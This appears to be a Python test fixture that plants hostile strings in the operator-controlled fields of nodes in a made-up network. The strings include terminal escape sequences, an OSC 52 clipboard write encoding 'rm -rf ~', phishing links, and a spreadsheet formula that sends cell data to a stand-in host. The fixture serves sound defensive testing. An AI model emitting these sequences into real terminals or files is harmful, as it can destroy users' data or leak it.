"""Text that does harm where it is shown without care, and the few nodes of a made-up network that carry it.

All of it stands in fields that a node's operator fills in freely, or that a lying server could.
"""

from collections.abc import Sequence

from tests.devnet.node_list import Record

ANSI_COLOUR = "\x1b[31mred\x1b[0m"
LINK = "\x1b]8;;https://phishing.example/\x1b\\click\x1b]8;;\x1b\\"
"""OSC 8: text that a terminal makes a link."""
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
"""OSC 52: text that a terminal copies to the clipboard."""
C1_CONTROL = "\x9b2J\x9b31m"
"""The one-character form of ESC [, which a filter for ESC alone lets through."""
BIDI_OVERRIDE = "\u202e0000x0\u202c\u2066\u2069"
RICH_MARKUP = "[bold]loud[/] [/] [link=https://phishing.example]here[/link]"
EMOJI_CODE = "2001:db8:a:b::2 :b: :warning:"
FORMULA = '=HYPERLINK("https://phishing.example/?"&A1,"refund")'
LINES = "first\nsecond\r\nthird\x1b[2K\rforged"
NUL = "before\x00after"
LONG = "long " * 1000
"""5,000 characters."""

MESSAGE = f"{ANSI_COLOUR} {LINK} {CLIPBOARD} {C1_CONTROL} {BIDI_OVERRIDE} {RICH_MARKUP} {EMOJI_CODE}\n{FORMULA} {NUL}"
"""Everything at once, for error messages."""

FEWEST_NODES = 20
"""Networks smaller than this are made without hostile nodes."""


def with_hostile_text(nodes: Sequence[Record]) -> list[Record]:
    """The same nodes, five of which now carry hostile text; their keys, states and amounts stay as they are."""
    changed = list(nodes)
    if len(changed) < FEWEST_NODES:
        return changed
    active = [index for index, node in enumerate(changed) if node["active"]]
    for index, change in zip(active[-4:], CHANGES, strict=False):
        changed[index] = changed[index] | change
    for index in active[-4:-2]:
        contributors = [dict(contributor) for contributor in changed[index]["contributors"]]
        contributors[0]["address"] = changed[index]["operator_address"]
        contributors[-1]["beneficiary"] = BIDI_OVERRIDE + C1_CONTROL + NUL
        changed[index] = changed[index] | {"contributors": contributors}
    for index, node in enumerate(changed):
        if node["funded"] and not node["active"]:
            reasons = {"all": [RICH_MARKUP, ANSI_COLOUR + LINES], "some": [EMOJI_CODE, FORMULA]}
            changed[index] = node | {"last_decomm_reasons": reasons}
            break
    return changed


CHANGES: tuple[Record, ...] = (
    {"operator_address": ANSI_COLOUR + LINK + CLIPBOARD},
    {"operator_address": FORMULA + LINES},
    {"operator_address": LONG},
    {"public_ip": f"192.0.2.1{ANSI_COLOUR}[/]:b:"},
)
"""What the last four active nodes get in place of their own."""
